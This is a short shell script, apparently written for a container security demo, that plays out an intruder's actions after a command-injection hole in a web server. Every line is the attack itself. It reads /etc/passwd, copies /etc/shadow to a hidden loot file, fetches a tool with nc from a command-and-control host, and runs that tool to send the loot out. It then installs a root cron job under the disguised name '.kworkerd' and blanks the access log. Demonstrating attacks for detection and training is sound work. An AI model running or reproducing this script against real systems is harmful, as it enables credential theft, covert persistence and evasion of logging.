#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
#
# What an intruder does in the demo's container, in busybox's shell. The web server there hands a query to a
# shell; the query fetches this script from the intruder's machine ($1) and pipes it into another shell.

c2=${1:-203.0.113.66}

# Look around, take what is worth taking.
id
uname -a
cat /etc/passwd
cat /etc/shadow >/tmp/.loot

# Bring a tool along, run it: it sends the loot home.
nc "$c2" 8001 </dev/null >/tmp/.kworkerd
chmod 755 /tmp/.kworkerd
/tmp/.kworkerd "$c2" 4444 /tmp/.loot

# Come back every minute, and leave no traces.
mkdir -p /etc/cron.d
echo '* * * * * root /usr/bin/.kworkerd' >/etc/cron.d/refresh
cp /tmp/.kworkerd /usr/bin/.kworkerd
: >/var/log/access.log
rm -f /tmp/.loot /tmp/.kworkerd
